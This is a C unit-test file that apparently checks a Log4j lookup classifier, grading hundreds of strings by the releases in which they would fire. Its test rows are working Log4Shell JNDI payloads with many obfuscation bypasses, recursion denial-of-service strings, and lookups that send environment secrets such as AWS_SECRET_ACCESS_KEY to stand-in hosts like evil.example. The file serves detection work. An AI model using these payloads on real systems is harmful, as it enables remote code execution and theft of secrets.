/* What a lookup, written as it is, would do: every family payloads were published in, and what only looks like one.
 * Expectations follow the semantics of log4j-core, release by release; which lookup appeared when decides "fires". */
#include "judge_row.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <cmocka.h>

#define RUN(rows) judge_rows(rows, sizeof rows / sizeof *rows)
#define H "ldap://h.example:389/a"

static void names_that_connect(void **state)
{
    static const struct judge_row rows[] = {
        ROW("${jndi:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_ALL, .normal = "${jndi:ldap://h.example/a}", .calls = 1),
        ROW("${jndi:ldap://h.example:1389/Basic/Command/Base64/aWQK}", "exploit",
            .indicators = "ldap://h.example:1389/Basic/Command/Base64/aWQK", .fires = FIRES_ALL),
        ROW("${jndi:ldaps://h.example/a}", "exploit", .indicators = "ldaps://h.example:636/a", .fires = FIRES_ALL),
        ROW("${jndi:rmi://h.example/a}", "exploit", .indicators = "rmi://h.example:1099/a", .fires = FIRES_ALL),
        ROW("${jndi:dns://h.example/a}", "exploit", .indicators = "dns://h.example:53/a", .fires = FIRES_ALL),
        ROW("${jndi:iiop://h.example/a}", "exploit", .indicators = "iiop://h.example:900/a", .fires = FIRES_ALL),
        ROW("${jndi:ldap://h.example}", "exploit", .indicators = "ldap://h.example:389"),
        ROW("${jndi:ldap://h.example:1389}", "exploit", .indicators = "ldap://h.example:1389"),
        ROW("${jndi:ldap://192.0.2.7:1389/a}", "exploit", .indicators = "ldap://192.0.2.7:1389/a", .fires = FIRES_ALL),
        ROW("${jndi:ldap://[2001:db8::7]:1389/a}", "exploit", .indicators = "ldap://2001:db8::7:1389/a", .fires = FIRES_ALL),
        ROW("${jndi:ldap://3221225991:1389/a}", "exploit", .indicators = "ldap://3221225991:1389/a"),
        ROW("${jndi:ldap://h.example/a b}", "exploit", .indicators = "ldap://h.example:389/a b"),
        ROW("${jndi:ldap://127.0.0.1/a}", "exploit", .indicators = "ldap://127.0.0.1:389/a", .fires = FIRES_ALL FIRES_LOCAL),
        ROW("${jndi:ldap:/h.example/a}", "exploit", .indicators = H, .normal = "${jndi:ldap:/h.example/a}"),
        ROW("${jndi:ldap:///a}", "exploit", .indicators = ""),
        ROW("${jndi:dns:/x.h.example}", "exploit", .indicators = "dns://x.h.example:53"),
        ROW("${jndi:rmi:/h.example}", "exploit", .normal = "${jndi:rmi:/h.example}"), /* to the local registry */
        ROW("}${jndi:ldap://h.example/a}", "exploit", .fires = FIRES_ALL),
        ROW("{${jndi:ldap://h.example/a}}", "exploit", .fires = FIRES_ALL),
        ROW("a $ { } ${jndi:ldap://h.example/a}}}}", "exploit", .indicators = H, .fires = FIRES_ALL),
        ROW("${jndi:ldap://h.example/a} ${", "exploit", .indicators = H, .fires = FIRES_ALL, .calls = 2),
        ROW("${jndi:ldap://a.example/1}${jndi:rmi://b.example/2}", "exploit",
            .indicators = "ldap://a.example:389/1 rmi://b.example:1099/2", .fires = FIRES_ALL, .calls = 4),
        ROW("${jndi:LDAP://a.example/1}${jndi:ldap://b.example/2}", "exploit", .normal = "${jndi:ldap://b.example/2}", .fires = FIRES_ALL),
    };
    (void)state;
    RUN(rows);
}

static void hidden_characters(void **state)
{
    static const struct judge_row rows[] = {
        ROW("${JNDI:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${jNdI:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h.example/a}", "exploit", .indicators = H,
            .fires = FIRES_2_8, .normal = "${jndi:ldap://h.example/a}", .calls = 9),
        ROW("${${::-j}ndi:rmi://h.example/a}", "exploit", .indicators = "rmi://h.example:1099/a", .fires = FIRES_2_8),
        ROW("${j${::-n}di:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
        ROW("${jndi${::-:}ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
        ROW("${${:-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
        ROW("${${:::::-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
        ROW("${${-:-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
        ROW("${${\":-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
        ROW("${${::::::-${::-j}}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
        /* before 2.8 the name ends at the first brace, and without "//" it is the local host that is asked */
        ROW("${jndi:ldap:${::-/}/h.example/a}", "exploit", .fires = FIRES_ALL, .normal = "${jndi:ldap://h.example/a}"),
        ROW("${jndi:${lower:l}${lower:d}a${lower:p}://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_13),
        ROW("${${lower:j}ndi:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_13),
        ROW("${${lower:jndi}:${lower:rmi}://h.example/a}", "exploit", .indicators = "rmi://h.example:1099/a", .fires = FIRES_2_13),
        ROW("${${lower:J}${upper:n}${lower:${upper:d}}i:ldap://h.example/a}", "exploit", .fires = FIRES_2_13),
        ROW("${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://h.example/a}", "exploit", .fires = FIRES_2_13),
        ROW("${${lower:${lower:jndi}}:ldap://h.example/a}", "exploit", .fires = FIRES_2_13),
        ROW("${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:l}${lower:d}${lower:a}${lower:p}://h.example/a}", "exploit",
            .indicators = H, .fires = FIRES_2_13),
        ROW("${jnd${upper:\xc4\xb1}:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_13),
        ROW("${${env:NaN:-j}ndi${env:NaN:-:}ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${${env:BARFOO:-j}nd${env:BARFOO:-i}${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//h.example/a}", "exploit",
            .indicators = H, .fires = FIRES_2_8),
        ROW("${${sys:NaN:-j}ndi:${ctx:NaN:-l}dap://h.example/a}", "exploit", .traits = "dos", .fires = FIRES_2_8),
        ROW("${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
        ROW("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${${date:'jndi:ldap:'}//h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${${k8s:k5:-J}${k8s:k6:-ND}i${sd:k5:-:}ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${${base64:ag==:-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
        ROW("${${main:x:-J}nd${spring:y:-i}${web:z:-:}${docker:c:-ldap}://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${${log4j:x:-j}${marker:y:-n}${bundle:a:b:-d}${map:z:-i}:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${${java:x:-j}ndi:ldap://h.example/a}", "attempt"), /* throws where java: is known, and old releases expand no names */
        ROW("${${aB:cD:E:f:-j}n${G::h:-d}i${:-:}ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${${env:A:-${env:B:-${sys:C:-j}}}ndi:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${j${::-}n${::-}di:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${${::-jn}${::-di:ldap}://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
        ROW("${jndi:ldap://${::-h}.${lower:EXAMPLE}:${env:P:-1389}/${::-a}}", "exploit", .traits = "leak"),
        ROW("${jndi:ldap://${jndi:dns://h.example/q}.h.example/a}", "exploit"),
        ROW("${jndi:\\-ldap://h.example/a:-z}", "exploit", .fires = FIRES("2.13.1-2.14.1"), .normal = "${jndi:ldap://h.example/a}"),
        ROW("${foo:-$${jndi:ldap://h.example/a}}", "exploit", .fires = FIRES_2_8),
        ROW("${lower:$${jndi:ldap://h.example/a}}", "exploit", .fires = FIRES_2_13),
        ROW("${foo:${jndi:ldap://h.example/a}}", "exploit", .fires = FIRES_2_8),
        ROW("${a:-${b:-${c:-${jndi:ldap://h.example/a}}}}", "exploit", .fires = FIRES_2_8),
        ROW("${jndi:a:-${jndi:ldap://h.example/b}}", "exploit", .indicators = "ldap://h.example:389/b", .fires = FIRES_2_8),
        ROW("${::-${::-$${::-${jndi:ldap://h.example/a}}}}", "exploit", .traits = "dos", .fires = FIRES_2_8), /* the same name in itself: throws */
    };
    (void)state;
    RUN(rows);
}

/* No release is a superset of another. */
static void only_some_releases(void **state)
{
    static const struct judge_row rows[] = {
        /* names are not expanded: the first brace closes */
        ROW("${jndi:ldap://h.example/${x}", "exploit", .fires = FIRES("2.0-beta9-2.7")),
        ROW("${jndi:ldap://h.example/${lower:a}", "exploit", .fires = FIRES("2.0-beta9-2.7")),
        /* the escape is gone after the first pass, and a second one comes */
        ROW("$${jndi:ldap://h.example/a} ${", "exploit", .indicators = H, .fires = "2.6-2.14.1 message"),
        ROW("$${jndi:ldap://h.example/a} ${x}", "exploit", .fires = "2.6-2.14.1 message"),
        ROW("${x} $${jndi:ldap://h.example/a}", "exploit", .fires = "2.6-2.14.1 message"),
        ROW("${::-$}{jndi:ldap://h.example/a} ${", "exploit", .fires = "2.6-2.14.1 message"),
        /* "$$" throws in the first releases' messages; a context value lies in a variable already */
        ROW("$${x} ${jndi:ldap://h.example/a}", "exploit", .indicators = H,
            .fires = "2.0-beta9-2.14.1 context +layout; 2.0-rc2-2.14.1 message; 2.0-rc2-2.14.1 single"),
        /* java: throws where it is known, event:Message too */
        ROW("${java:nosuch}${jndi:ldap://h.example/a}", "exploit", .fires = FIRES("2.0-beta9-2.0.2")),
        ROW("${jndi:ldap://h.example/a}${java:nosuch}", "exploit", .fires = FIRES_ALL, .indicators = H),
        /* the message in a context value is another text, so that nothing refers to itself */
        ROW("${event:Message}${jndi:ldap://h.example/a}", "exploit", .traits = "dos", .indicators = H,
            .fires = "2.0-beta9-2.13.1 message; 2.0-beta9-2.13.1 single; 2.0-beta9-2.14.1 context +layout"),
        ROW("${event:Message}${jndi:ldap://h.example/a}", "exploit", .traits = "dos", .indicators = H, .only = "2.14.1",
            .fires = "2.13.2-2.14.1 context +layout", .normal = "${jndi:ldap://h.example/a}", .calls = 1),
        ROW("${jndi:ldap://h.example/a}${a:-${a}}", "exploit", .traits = "dos", .fires = FIRES_ALL),
        /* the allow-list of 2.15.0 and the escape that this release does not see */
        ROW("$${jndi:ldap://127.0.0.1/a}", "exploit", .fires = "2.15.0 message +lookups"),
        ROW("${jndi:ldap://localhost:1389/a}", "exploit", .fires = FIRES_ALL FIRES_LOCAL),
    };
    (void)state;
    RUN(rows);
}

static void conditional_and_leaking(void **state)
{
    static const struct judge_row rows[] = {
        ROW("${jndi:ldap://${env:USER}.evil.example/a}", "exploit", .certainty = "conditional", .traits = "leak conditional",
            .conditions = "env:USER", .fires = FIRES_2_8, .indicators = "ldap://caltropvalue.evil.example:389/a"),
        ROW("${jndi:ldap://${ctx:tenant}.evil.example/a}", "exploit", .certainty = "conditional", .traits = "leak dos conditional",
            .conditions = "ctx:tenant", .fires = FIRES_2_8),
        ROW("${jndi:ldap://${sys:app.name}:${env:PORT:-1389}/a}", "exploit", .certainty = "conditional", .traits = "leak conditional",
            .conditions = "sys:app.name"),
        ROW("${jndi:dns://${env:A}.${env:B}.evil.example/}", "exploit", .certainty = "conditional", .traits = "leak conditional",
            .conditions = "env:A env:B"),
        ROW("${jndi:${env:PROTO}://h.example/a}", "reach"),
        /* not set, the text stays in the path: it connects all the same */
        ROW("${jndi:ldap://h.example/${env:AWS_SECRET_ACCESS_KEY}}", "exploit", .traits = "leak", .fires = FIRES_ALL,
            .normal = "${jndi:ldap://h.example/${env:AWS_SECRET_ACCESS_KEY}}"),
        ROW("${jndi:ldap://${hostName}.evil.example/a}", "exploit", .traits = "leak", .fires = FIRES_2_8),
        ROW("${jndi:ldap://${sys:java.version}.evil.example/a}", "exploit", .traits = "leak", .fires = FIRES_2_8),
        ROW("${jndi:ldap://h.example/${java:os}}", "exploit", .traits = "leak"),
        ROW("${jndi:dns://h.example/${env:A:-none}}", "exploit", .traits = "leak"),
        ROW("${jndi:ldap://${date:yyyy}.evil.example/a}", "exploit", .fires = FIRES_2_8),
        ROW("${env:AWS_SECRET_ACCESS_KEY}", "leak", .normal = "${env:AWS_SECRET_ACCESS_KEY}"),
        ROW("${sys:user.name}", "leak"),
        ROW("${sys:log4j.configurationFile}", "leak"),
        ROW("${java:version}", "leak"),
        /* not a secret, and what templates of other engines call a host; sent somewhere it tells which host was reached */
        ROW("${hostName}", "none"),
        ROW("https://${hostName}:${port}/a", "none"),
        ROW("${foo:hostName}", "none"),
        ROW("${lower:${hostName}}", "none"),
        ROW("${hostName} ${env:A}", "leak"),
        ROW("${main:0}", "leak"),
        ROW("${log4j:configLocation}", "leak"),
        ROW("${bundle:application:spring.datasource.password}", "leak"),
        ROW("${spring:spring.datasource.password}", "leak"),
        ROW("${docker:containerId}", "leak"),
        ROW("${k8s:masterUrl}", "leak"),
        ROW("${ctx:apiKey}", "leak"),
        ROW("${lower:${env:HOME}}", "leak"),
        ROW("${${::-e}nv:HOME}", "leak"),
        ROW("${env:A:-${env:B}}", "leak"),
    };
    (void)state;
    RUN(rows);
}

static void recursion(void **state)
{
    static const struct judge_row rows[] = {
        ROW("${${ctx:u}}", "dos", .traits = "dos"),
        ROW("${::-${ctx:u}}", "dos", .traits = "dos"),
        ROW("${lower:${ctx:u}}", "dos", .traits = "dos"),
        ROW("${${::-${::-$${::-j}}}}", "dos", .traits = "dos"),
        ROW("${::-$${::-$${::-j}}}", "dos", .traits = "dos"),
        ROW("${a:-${a}}", "dos", .traits = "dos"),
        ROW("${a:-x${b:-$${a}}}", "dos", .traits = "dos"),
        ROW("${event:Message}", "dos", .traits = "dos"),
        ROW("${a:-${a}}${jndi:ldap://h.example/a}", "exploit", .traits = "dos"),
    };
    (void)state;
    RUN(rows);
}

static void reaches_without_connecting(void **state)
{
    static const struct judge_row rows[] = {
        ROW("${jndi:x}", "reach", .indicators = "", .fires = FIRES_ALL FIRES_LOCAL, .normal = "${jndi:x}"),
        ROW("${jndi:}", "reach", .indicators = "", .fires = FIRES_ALL FIRES_LOCAL),
        ROW("${jndi:java:comp/env/jdbc/x}", "reach"),
        ROW("${jndi:LDAP://h.example/a}", "reach", .indicators = "!LDAP://h.example:0/a", .fires = FIRES_ALL),
        ROW("${jndi:lDap://h.example/a}", "reach"),
        ROW("${jndi:${upper:ldap}://h.example/a}", "reach", .fires = FIRES_ALL),
        ROW("${${upper:jndi:ldap}://h.example/a}", "reach", .fires = FIRES_2_13),
        ROW("${jndi:http://h.example/a}", "reach"),
        ROW("${jndi:https://h.example/a}", "reach"),
        ROW("${jndi:file:///etc/passwd}", "reach"),
        ROW("${jndi:nis://h.example/a}", "reach"),
        ROW("${jndi:nds://h.example/a}", "reach"),
        ROW("${jndi:rmi://h.example}", "reach"),
        ROW("${jndi: ldap://h.example/a}", "reach"),
        ROW("${jndi:\tldap://h.example/a}", "reach"),
        ROW("${jndi:-ldap://h.example/a}", "reach"),
        ROW("${jndi:\\-ldap://h.example/a}", "reach"),
        ROW("${jndi:\\ldap://h.example/a}", "reach"),
        ROW("${jndi:$${lower:l}dap://h.example/a}", "reach"),
    };
    (void)state;
    RUN(rows);
}

/* Published "bypasses" that fire nowhere, and plain mistakes. */
static void dead_tries(void **state)
{
    static const struct judge_row rows[] = {
        ROW("${jndi:ldap://h.example/a", "attempt", .normal = "${jndi:ldap://h.example/a"),
        ROW("$${jndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("$$${jndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${ jndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${jndi :ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${\tjndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${ ${jndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${${jndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${lower:${jndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${::-$}{jndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${::-${::-$}{jndi:ldap://h.example/a}}", "attempt", .indicators = H),
        ROW("${base64:JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=}", "attempt"),
        ROW("${${base64:am5kaTpsZGFwOi8vaC5leGFtcGxlL2E=}}", "attempt"),
        ROW("${${lower:jnd}${lower:\xc4\xb0}:ldap://h.example/a}", "attempt", .indicators = H), /* fires under a Turkish locale alone */
        ROW("${jnd\xc4\xb1:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${${base64:am5kaQ==}:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${${base64:ag}${base64:bg}${base64:ZA}i:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${+jndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${jndi+:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${\xef\xbd\x8andi:ldap://h.example/a}", "attempt", .indicators = H), /* the full-width j */
        ROW("${${lower:\xef\xbc\xaa\xef\xbc\xae\xef\xbc\xa4\xef\xbc\xa9}:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${${::-j}${${::-n}${${::-d}${${::-i}:${::-l}${${::-d}${${::-a}${${::-p}://h.example/a}", "attempt", .indicators = H),
        /* other engines' expressions: Commons Text, Spring, OGNL */
        ROW("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "none"),
        ROW("${url:UTF-8:http://h.example/a}", "none"),
        ROW("${dns:address|h.example}", "none"),
        ROW("${T(java.lang.Runtime).getRuntime().exec('id')}", "none"),
        ROW("${(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "none"),
        ROW("${a ${b ${c:-${d", "none"),
        /* behind more templates than are looked at closely */
        ROW("${a}${b}${c}${d}${e}${f}${g}${h}${i}${j}${k}${l}${m}${n}${o}${p}${q}${r}$${jndi:ldap://h.example/a", "attempt"),
        ROW("${a} ${hostName}", "none"),
        ROW("${a} ${sys:user.name}", "leak"),
        ROW("${jnd\xc4\xb0:ldap://h.example/a}", "attempt"),
        ROW("${jnd${lower:\xc4\xb1}:ldap://h.example/a}", "attempt"),
        ROW("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h.example/a", "attempt", .indicators = H),
        /* what no brace closed goes on with the line */
        ROW("${jndi:ldap://h.example/a HTTP/1.1\" 200 12 \"-\" \"x\"", "attempt", .indicators = H),
        ROW("${jndi:ldap://h.example\" 200 12", "attempt", .indicators = "ldap://h.example:389"),
        ROW("<x a='${jndi:ldap://h.example:1389/a'>", "attempt", .indicators = "ldap://h.example:1389/a"),
        ROW("${jndi:ldap://{{callback/a", "attempt", .indicators = ""),
    };
    (void)state;
    RUN(rows);
}

/* Nothing that a brace or a blank would mend, and yet nobody writes them for another reason. */
static void tries_that_spell(void **state)
{
    static const struct judge_row rows[] = {
        /* words of letters that lookups give, as lists of bypasses have them without what goes around */
        ROW("j${::-nD}i${::-:}", "attempt"),
        ROW("jn${env::-}di:", "attempt"),
        ROW("jn${date:}di${date:':'}", "attempt"),
        ROW("j${loWer:Nd}i${uPper::}", "attempt"),
        ROW("j${k8s:k5:-ND}i${sd:k5:-:}", "attempt"),
        ROW("j${main:\\k5:-Nd}i${spring:k5:-:}", "attempt"),
        ROW("j${sys:k5:-nD}${lower:i${web:k5:-:}}", "attempt"),
        ROW("${::-l}${::-d}${::-a}${::-p}", "attempt"),
        ROW("${:a:d:-${lower:j}n}di:", "attempt"),
        ROW("${a} ${b:c} text, then jnd${upper:\xc4\xb1}", "attempt"),
        ROW("${lower:jndi}", "attempt"),
        ROW("${lower:rmi}", "attempt"),
        ROW("(${${::-j}$", "attempt"),
        ROW("${${env:BARFOO:-j}", "attempt"),
        ROW("${lower:${:a:d:-${lower:}}jndi:}", "attempt"),
        /* a name hidden in front of an address, which is none in the end */
        ROW("${${hostName:-j}ndi:ldap://h.example/a}", "attempt", .indicators = H),
        ROW("${j${date:''}ndi:ldap://h.example/a}", "attempt"),
        ROW("${jn${date:' '}di:rmi://h.example/a}", "attempt"),
        ROW("${${urlDecoder:%6a%6e%64%69}:ldap://h.example/a}", "attempt"),
        ROW("${${const:java.lang.String.CASE}:dns://h.example/a}", "attempt"),
        /* an address given to another lookup */
        ROW("${date:ldap://h.example/a}", "attempt"),
        ROW("${lower:ldap://h.example/a}", "attempt"),
        ROW("${java:rmi://h.example/a}", "attempt"),
        ROW("${env:ldap://h.example/a}", "attempt"),
        ROW("${MARKER:iiop://h.example/a", "attempt"),
        /* the whole of it as a default or a text, or behind templates */
        ROW("${x:-jndi:ldap://h.example/a}", "attempt"),
        ROW("${::-jndi:rmi://h.example/a}", "attempt"),
        ROW("${upper:jndi:ldap://h.example/a}", "attempt"),
        ROW("${${a}${b}jndi:ldap://h.example/a}", "attempt"),
        ROW("${jndi${:}:ldap${:}//h.example/a}", "attempt"),
        /* base64 that holds a lookup, cut, or for a lookup of another library */
        ROW("${base64Decoder:JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=}", "attempt"),
        ROW("${base64:JHtqbmRp", "attempt"),
        /* cut behind an opener: closed at once it would be a lookup that refers to itself */
        ROW("${jndi${:-:${", "attempt"),
        ROW("${jndi${:-:${ ${", "attempt"),
    };
    (void)state;
    RUN(rows);
}

static void ordinary_text(void **state)
{
    static const char *const texts[] = {
        "", "$", "${", "${}", "$}", "{}", "a${", "price $5 {each}", "$ {jndi:ldap://h.example/a}", "$(jndi:ldap://h.example/a)",
        "{jndi:ldap://h.example/a}", "jndi:ldap://h.example/a", "$jndi:ldap://h.example/a", "ldap://h.example/a",
        "${user.name}", "${project.version}", "${server.port:8080}", "${server.port:-8080}", "${spring.datasource.url}",
        "${HOME}", "${PATH:-/usr/bin}", "${1:-default}", "${VAR##*/}", "${VAR%.tar.gz}", "${#array[@]}", "${!name}",
        "Hello ${name}, you have ${count} items", "`${items.map(i => i.name).join(',')}`", "${a ? b : c}", "${user:name}",
        "<c:out value=\"${param.id}\"/>", "#{bean.value} ${bean.value}", "${env.BRANCH_NAME}", "${self:service}-${opt:stage}",
        "${var.region}", "${data.aws_ami.id}", "${CMAKE_SOURCE_DIR}/src", "${date:yyyy-MM-dd}", "${lower:ABC}", "${upper:abc}",
        "${event:Level}", "${marker:}", "${contextName}", "${jndi}", "${jndi/x}", "${ldap://h.example/a}", "${::-j}",
        "100% of $%7B", "$%7B", "%24", "%7B%7D", "%24%7B", "a%20b%2Fc", "\\u0024", "\\x24", "\\n\\t\\\"", "&dollar;", "&lbrace;",
        "&amp;&lt;&#36;", "/?a=1&b=2&c=3", "/?q=caf%C3%A9&x=%E2%82%AC", "C:\\Users\\x\\u\\a", "50% off & free", "R&D \\ $100",
        "dGhpcyBpcyBhIHBsYWluIHNlbnRlbmNl", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLWJ5dGVz",
        "/static/js/app.0123456789abcdef0123456789abcdef.js", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
        "session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "${${}}", "${${x}}", "${x:${y}}", "}}}}${{{{", "${{ github.ref }}",
        "${=NA()}", "${7*7}", "${T(java.lang.Runtime)}",
        "${LDAP_URL:ldap://localhost:389}", "${LDAP_URL:-ldap://localhost:389}", "${a.url:ldap://localhost:${a.port:8389}}",
        "${a.url:${LDAP_URL:${AD_URL:ldap://dc.example:389}}}",
        "${PROTO:-ldap}://${HOST:-openldap}:${PORT:-389}", "${${PREFIX}:ldap://localhost}", "service:jmx:rmi:///jndi/rmi://${H:-h}:${P:-1}/jmxrmi",
        "jndi: ${name:x}, ldap: ${url:y}", "Attackers send \"${\" and then jndi with a colon, e.g. jndi:ldap://h.example/a", "${NAMING:-jndi}:${x:-y}", "${jndi.name:java:comp/env/jdbc/ds}", "${x:-j}son ${y:-indi}",
        "${dns:address|h.example} dns://${NAMESPACE:-default}", "${base64:aGVsbG8gd29ybGQ=}", "${docker.image:-ldap}", "${a:-per}mit",
    };
    struct judge_row rows[sizeof texts / sizeof *texts];
    (void)state;
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
        rows[i] = (struct judge_row){.line = (int)i, .text = texts[i], .grade = "none"};
    RUN(rows);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(names_that_connect),      cmocka_unit_test(hidden_characters), cmocka_unit_test(only_some_releases),
        cmocka_unit_test(conditional_and_leaking), cmocka_unit_test(recursion),         cmocka_unit_test(reaches_without_connecting),
        cmocka_unit_test(dead_tries),              cmocka_unit_test(tries_that_spell),  cmocka_unit_test(ordinary_text),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
